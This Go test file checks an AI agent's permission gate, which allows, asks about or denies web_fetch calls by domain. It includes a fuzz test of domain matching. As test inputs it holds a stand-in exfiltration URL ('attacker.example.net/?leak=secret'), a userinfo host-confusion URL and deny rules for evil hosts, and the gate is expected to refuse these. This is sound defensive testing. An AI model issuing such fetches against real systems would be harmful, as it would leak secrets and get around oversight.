package policy

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"reasonix/agent"
)

// WebFetch(domain:…) rules decide web_fetch calls by the URL's host: the
// domain and the names below it, deny over ask over allow; a call no rule
// names falls back to the mode like any writer.
func TestWebFetchDomainRules(t *testing.T) {
	p, err := New(Config{
		Allow: []string{"WebFetch(domain:docs.example.com)", "WebFetch(domain:*.golang.org)"},
		Ask:   []string{"WebFetch(domain:www.example.com)"},
		Deny:  []string{"WebFetch(domain:evil.test)"},
	})
	if err != nil {
		t.Fatal(err)
	}
	for url, want := range map[string]Decision{
		"https://docs.example.com/a":         Allow,
		"https://DOCS.example.com./a":        Allow,
		"https://api.docs.example.com/":      Allow,
		"https://example.com/":               Ask, // no rule: the writer fallback
		"https://www.example.com/":           Ask,
		"https://cdn.www.example.com/":       Ask,
		"https://pkg.golang.org/x":           Allow,
		"https://golang.org/x":               Ask, // *. covers only names below it
		"http://evil.test/":                  Deny,
		"http://a.b.evil.test:8080/x?q=1":    Deny,
		"http://notevil.test/":               Ask,
		"http://docs.example.com@evil.test/": Deny, // the host is what is connected to
		"::not a url":                        Deny, // no host: deny rules match it
	} {
		args, _ := json.Marshal(map[string]string{"url": url})
		if got := p.Decide("web_fetch", false, args); got != want {
			t.Errorf("web_fetch %s = %v, want %v", url, got, want)
		}
	}
	// A host-less URL is matched by deny rules, never by an allow rule.
	q, _ := New(Config{Deny: []string{"WebFetch(domain:x.test)"}, Mode: "allow"})
	if got := q.Decide("web_fetch", false, json.RawMessage(`{"url":"::"}`)); got != Deny {
		t.Errorf("host-less URL under a deny rule = %v", got)
	}
	for _, bad := range []string{"WebFetch(example.com)", "WebFetch(domain:)", "WebFetch(domain:a..b)", "WebFetch(domain:a/b)", "WebFetch(domain:*)"} {
		if _, err := ParseRule(bad); err == nil {
			t.Errorf("ParseRule(%q) accepted", bad)
		}
	}
	if r, err := ParseRule("WebFetch(domain:Docs.Example.COM.)"); err != nil || r.String() != "WebFetch(domain:docs.example.com)" {
		t.Errorf("ParseRule = %v, %v", r, err)
	}
}

// FuzzWebFetchDomain: a domain rule that parses matches its own domain
// (and, unless it is a *. rule, names below it), and never a host that
// merely ends with its text without a dot before it.
func FuzzWebFetchDomain(f *testing.F) {
	for _, s := range []string{"example.com", "*.example.com", "EXAMPLE.com.", "a-b_c.d", "[::1]", "1.2.3.4", "x..y", "*.", "\x00", "é.com"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, d string) {
		r, err := ParseRule("WebFetch(domain:" + d + ")")
		if err != nil {
			return
		}
		name := strings.TrimPrefix(r.spec, "*.")
		sub := func(host string) subject { return subject{hasURL: true, host: host} }
		if !r.matchDomain(sub("www."+name), false) {
			t.Fatalf("%s does not match www.%s", r, name)
		}
		if strings.HasPrefix(r.spec, "*.") == r.matchDomain(sub(name), false) {
			t.Fatalf("%s on %s: wrong", r, name)
		}
		if r.matchDomain(sub("x"+name), false) {
			t.Fatalf("%s matches x%s", r, name)
		}
		if again, err := ParseRule(r.String()); err != nil || again.String() != r.String() {
			t.Fatalf("%s does not print back: %v", r, err)
		}
		_ = fmt.Sprint(r)
	})
}

// Under auto a web_fetch no rule names is the network egress the sandbox
// closes for bash: it asks (refused when nobody can be asked) unless the
// task has the network; an allow rule lets it through, a deny rule wins.
func TestWebFetchUnderAutoNeedsTheNetworkOrARule(t *testing.T) {
	p, err := New(Config{Allow: []string{"WebFetch(domain:docs.example.com)"}, Deny: []string{"WebFetch(domain:evil.test)"}})
	if err != nil {
		t.Fatal(err)
	}
	fetch := func(network bool, url string) agent.Verdict {
		t.Helper()
		g, err := NewGate(GateConfig{Policy: p, Posture: PostureAuto, Workdir: t.TempDir(), ShellSandboxed: true, Network: network})
		if err != nil {
			t.Fatal(err)
		}
		args, _ := json.Marshal(map[string]string{"url": url})
		v, err := g.Authorize(t.Context(), agent.Call{ID: "c1", Tool: "web_fetch", Args: args})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	if v := fetch(false, "https://attacker.example.net/?leak=secret"); v.Allowed || v.Code != agent.RefusedUnattended ||
		!strings.Contains(v.Reason, "attacker.example.net") || !strings.Contains(v.Reason, "no network") {
		t.Errorf("an unnamed host without the network = %+v, want asked (refused unattended) naming the host", v)
	}
	if v := fetch(false, "https://docs.example.com/guide"); !v.Allowed {
		t.Errorf("an allowed domain = %+v", v)
	}
	if v := fetch(true, "https://attacker.example.net/"); !v.Allowed {
		t.Errorf("an unnamed host with [sandbox] network = %+v, want allowed", v)
	}
	if v := fetch(true, "https://evil.test/"); v.Allowed || v.Code != agent.RefusedByRule {
		t.Errorf("a denied domain with the network = %+v", v)
	}
	// Bash under auto is not changed by it.
	g, _ := NewGate(GateConfig{Policy: p, Posture: PostureAuto, Workdir: t.TempDir(), ShellSandboxed: true})
	if v, _ := g.Authorize(t.Context(), agent.Call{ID: "c2", Tool: "bash", Args: json.RawMessage(`{"command":"echo hi > f"}`)}); !v.Allowed {
		t.Errorf("bash under auto = %+v", v)
	}
}
